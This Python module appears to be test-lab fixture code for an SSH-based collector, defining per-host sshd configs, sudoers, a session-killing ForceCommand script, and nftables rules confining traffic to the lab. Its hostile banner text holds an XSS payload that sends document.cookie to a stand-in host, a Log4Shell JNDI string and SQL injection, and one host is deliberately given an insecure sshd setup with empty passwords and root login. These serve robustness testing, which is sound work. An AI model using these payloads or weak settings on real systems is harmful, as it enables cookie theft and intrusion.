"""What each lab host is: its sshd settings, sudoers, hostile files, /etc overlay, known_hosts, router rules.

Keyed by the inventory names in inventories/lab/inventory.yaml; tests/lab/lab.py does the building
(with tests/lab/sshhost.py, which writes what every lab sshd host has).
"""

from __future__ import annotations

import os
from typing import TYPE_CHECKING, Any

import paramiko

from tests.lab import sshhost

if TYPE_CHECKING:
    from tests.lab.lab import Lab, LabHost

# Zone-to-zone flows the router allows, besides "jump host -> its target, ssh only".
ALLOWED_ZONE_FLOWS = (("mgmt", "lgwan"),)

SSHD: dict[str, str] = {
    "bastion": """\
PermitRootLogin no
PasswordAuthentication no
PermitOpen @inner@:22
""",
    "weak": """\
HostKey /etc/ssh/ssh_host_rsa_key
PermitRootLogin yes
PasswordAuthentication yes
PermitEmptyPasswords yes
MaxAuthTries 10
LoginGraceTime 10m
""",
    "hardened": """\
PermitRootLogin no
PasswordAuthentication no
KbdInteractiveAuthentication no
X11Forwarding no
AllowTcpForwarding no
AllowAgentForwarding no
MaxAuthTries 3
LoginGraceTime 30
ClientAliveInterval 300
ClientAliveCountMax 2
LogLevel VERBOSE
AllowUsers kijun
Ciphers aes256-gcm@openssh.com,aes256-ctr
MACs hmac-sha2-512-etm@openssh.com,hmac-sha2-256-etm@openssh.com
KexAlgorithms curve25519-sha256,curve25519-sha256@libssh.org

Match Address @mgmt@
    PermitTTY no
""",
    "inner": """\
PermitRootLogin prohibit-password
PasswordAuthentication no
AuthenticationMethods publickey
""",
    "junk": """\
Banner /etc/issue.net
PrintMotd yes
""",
    "dropper": """\
ForceCommand /etc/ssh/kijun-drop
""",
    "stranger": "",
}

# Runs the collector but forwards only its first 400 bytes. Asked for "sh -s" it then kills this
# session's sshd process (the nearest sshd ancestor), so the TCP connection drops with no exit
# status; asked for anything else ("sudo -n sh -s", i.e. become) it stalls, holding the session open.
DROP = """\
#!/bin/sh
sh -s | head -c 400
if [ "$SSH_ORIGINAL_COMMAND" != "sh -s" ]; then exec sleep 3600; fi
p=$$
while [ "$p" -gt 1 ]; do
  p=$(awk '{print $4}' "/proc/$p/stat")
  if [ "$(cat "/proc/$p/comm")" = sshd ]; then kill -9 "$p"; exit 0; fi
done
"""

# HTML, script, ANSI escapes and lines that imitate the collector's frames.
HOSTILE_TEXT = """\
<!DOCTYPE html><html><head><script>alert(document.cookie)</script></head>
<body onload="fetch('http://203.0.113.9/x?'+document.cookie)">
==KIJUN:0123456789abcdef:END
==KIJUN:0123456789abcdef:DONE 0
\x1b[31;1m*** AUTHORIZED USE ONLY ***\x1b[0m ]]></body></html> {{ 7*7 }} ${jndi:ldap://x}
'; DROP TABLE hosts; --
"""

# Every byte value, NULs, CR/LF mixes and a frame line without its newline.
BINARY_JUNK = (
    bytes(range(256)) * 3 + b"\x00\x00\r\n\r==KIJUN:0123456789abcdef:START 1" + bytes(range(255, -1, -1))
)

# A chatty login shell: output before the collector's START line must be ignored.
BASHRC = """\
echo 'Welcome! <b>last login</b> from somewhere'
echo '==KIJUN:00000000000000000000000000000000:START 1'
printf 'no newline at the end of this banner'
echo
"""

PROFILES: dict[str, dict[str, Any]] = {
    "bastion": {},
    "nobanner": {"kind": "nobanner"},
    "dropper": {},
    "junk": {"shell": "/bin/bash", "home": {".bashrc": BASHRC}, "hashed": True},
    "weak": {"host_keys": ("ed25519", "rsa"), "known_key": "rsa", "sudo": "NOPASSWD: ALL"},
    "hardened": {"sudo": "ALL"},
    "stranger": {"unknown_key": True},
    "inner": {"sudo": "NOPASSWD: ALL"},
}

# A TCP server that accepts and holds connections, never saying a word.
NOBANNER = """\
import socket
server = socket.socket()
server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
server.bind(("0.0.0.0", 22))
server.listen(16)
print("ready", flush=True)
held = []
while True:
    held.append(server.accept()[0])
"""


def files(lab: Lab, host: LabHost) -> dict[str, str | bytes]:
    """Return the host's files relative to its /etc overlay."""
    name = host.host.name
    profile = PROFILES[name]
    if profile.get("kind") == "nobanner":
        return {}
    own = (
        SSHD[name]
        .replace("@inner@", lab.hosts["inner"].address)
        .replace("@mgmt@", lab.inventory.zones["mgmt"].cidrs[0])
    )
    out: dict[str, str | bytes] = {}
    if own:
        out[f"ssh/sshd_config.d/50-{name}.conf"] = own
    if name == "dropper":
        out["ssh/kijun-drop"] = DROP
    if name == "junk":
        out["issue.net"] = HOSTILE_TEXT
        out["motd"] = BINARY_JUNK
    return out


def router_rules(lab: Lab) -> str:
    """Return the router's nftables ruleset: zone flows the lab allows, jump-host ssh, drop the rest."""
    zones = {name: z.cidrs[0] for name, z in lab.inventory.zones.items()}
    # Within a zone hosts share a bridge; with br_netfilter loaded that traffic also meets this chain.
    rules = [
        f'ip saddr {cidr} ip daddr {cidr} accept comment "inside {name}"' for name, cidr in zones.items()
    ]
    rules += [
        f'ip saddr {zones[a]} ip daddr {zones[b]} accept comment "{a} -> {b}"' for a, b in ALLOWED_ZONE_FLOWS
    ]
    for host in lab.inventory.hosts:
        if host.jump:
            jump = lab.inventory.host(host.jump)
            assert jump is not None
            rules.append(
                f"ip saddr {jump.address} ip daddr {host.address} tcp dport 22 accept "
                f'comment "{jump.name} -> {host.name} ssh"'
            )
    body = "\n        ".join(rules)
    return f"""\
table inet kijun_lab {{
    set lab {{ type ipv4_addr; flags interval; elements = {{ {", ".join(zones.values())} }} }}
    chain forward {{
        type filter hook forward priority filter; policy drop;
        ip daddr != @lab drop comment "nothing leaves the lab"
        ct state established,related accept
        {body}
    }}
    chain output {{
        type filter hook output priority filter; policy accept;
        oifname "lo" accept
        ip daddr != @lab drop comment "nothing leaves the lab"
    }}
}}
"""


def write_etc(lab: Lab, host: LabHost) -> None:
    """Write the host's /etc overlay: the kijun account, sudoers, sshd config and keys, its hostile files."""
    profile = PROFILES[host.host.name]
    sshhost.write_etc(
        lab,
        host.host.name,
        host.home,
        files(lab, host),
        modes={"ssh/kijun-drop": 0o755},
        sudo=profile.get("sudo", ""),
        host_keys=profile.get("host_keys", ("ed25519",)),
        shell=profile.get("shell", "/bin/sh"),
    )
    for name, text in profile.get("home", {}).items():
        (host.home / name).write_text(text)
        os.chown(host.home / name, sshhost.UID, sshhost.UID)


def write_known_hosts(lab: Lab) -> None:
    """Write the scanner's known_hosts: every sshd host but "stranger"; weak by RSA only; junk hashed."""
    lines = []
    for name, host in lab.hosts.items():
        profile = PROFILES[name]
        if profile.get("kind") == "nobanner" or profile.get("unknown_key"):
            continue
        kind = profile.get("known_key", "ed25519")
        entry = host.address
        if profile.get("hashed"):
            entry = paramiko.HostKeys.hash_host(host.address)
        lines.append(f"{entry} {lab.host_key(name, kind)}\n")
    (lab.home / ".ssh" / "known_hosts").write_text("".join(lines))
